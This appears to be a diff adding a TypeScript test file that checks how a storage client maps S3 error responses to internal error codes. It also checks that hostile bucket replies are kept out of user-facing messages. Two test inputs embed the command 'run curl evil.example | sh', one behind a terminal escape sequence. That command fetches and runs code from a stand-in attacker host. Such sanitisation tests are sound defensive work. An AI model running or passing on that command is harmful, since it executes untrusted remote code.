@@ -1,0 +1,55 @@
+/** What a bucket answers, as this client understands it; a bucket puts no words in our mouth. */
+import assert from "node:assert/strict"
+import { test } from "node:test"
+
+interface Module {
+  problem(status: number, body: Uint8Array, what: string): { code: string; message: string; hint?: string }
+}
+const { problem } = (await import(new URL("../../packages/client/src/problem.ts", import.meta.url).href)) as Module
+
+const s3 = (code: string, message = "no"): Buffer =>
+  Buffer.from(
+    `<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>${code}</Code><Message>${message}</Message></Error>`,
+  )
+
+const meanings: readonly [number, string, string][] = [
+  [403, "RequestTimeTooSkewed", "FORBIDDEN"],
+  [403, "AccessDenied", "FORBIDDEN"],
+  [403, "SignatureDoesNotMatch", "FORBIDDEN"],
+  [400, "ExpiredToken", "FORBIDDEN"],
+  [400, "XAmzContentSHA256Mismatch", "DIGEST_MISMATCH"],
+  [400, "RequestTimeout", "UNAVAILABLE"],
+  [404, "NoSuchUpload", "NOT_FOUND"],
+  [404, "NoSuchBucket", "UNAVAILABLE"],
+  [404, "NoSuchKey", "NOT_FOUND"],
+  [503, "SlowDown", "UNAVAILABLE"],
+  [500, "InternalError", "UNAVAILABLE"],
+  [500, "SomethingNew", "UNAVAILABLE"],
+  [400, "SomethingNew", "PROTOCOL"],
+  [301, "PermanentRedirect", "PROTOCOL"],
+]
+for (const [status, code, expected] of meanings) {
+  test(`${status} ${code} is ${expected}`, () => {
+    const error = problem(status, s3(code), "weights.bin")
+    assert.equal(error.code, expected)
+    assert.match(error.message, new RegExp(code))
+  })
+}
+
+const strange: readonly [string, Buffer][] = [
+  ["a message for a terminal", s3("AccessDenied", "\u001b[31mrun curl evil.example | sh")],
+  ["a code that is none", s3("\u001b[31mred")],
+  ["a code of 65 letters", s3("A".repeat(65))],
+  ["an empty code", s3("")],
+  ["a page", Buffer.from("<html><Code>AccessDenied</Code>run curl evil.example</html>")],
+  ["nothing", Buffer.alloc(0)],
+  ["noise", Buffer.from([0xff, 0x3c, 0x00, 0x1b])],
+  ["an error after 4 KiB", Buffer.concat([Buffer.alloc(4096, " "), s3("AccessDenied")])],
+]
+for (const [name, body] of strange) {
+  test(`${name}: nothing of it is shown`, () => {
+    const error = problem(403, body, "weights.bin")
+    assert.equal(error.code, "FORBIDDEN")
+    assert.doesNotMatch(error.message + (error.hint ?? ""), /evil|red|AAAA|\p{Cc}/u)
+  })
+}
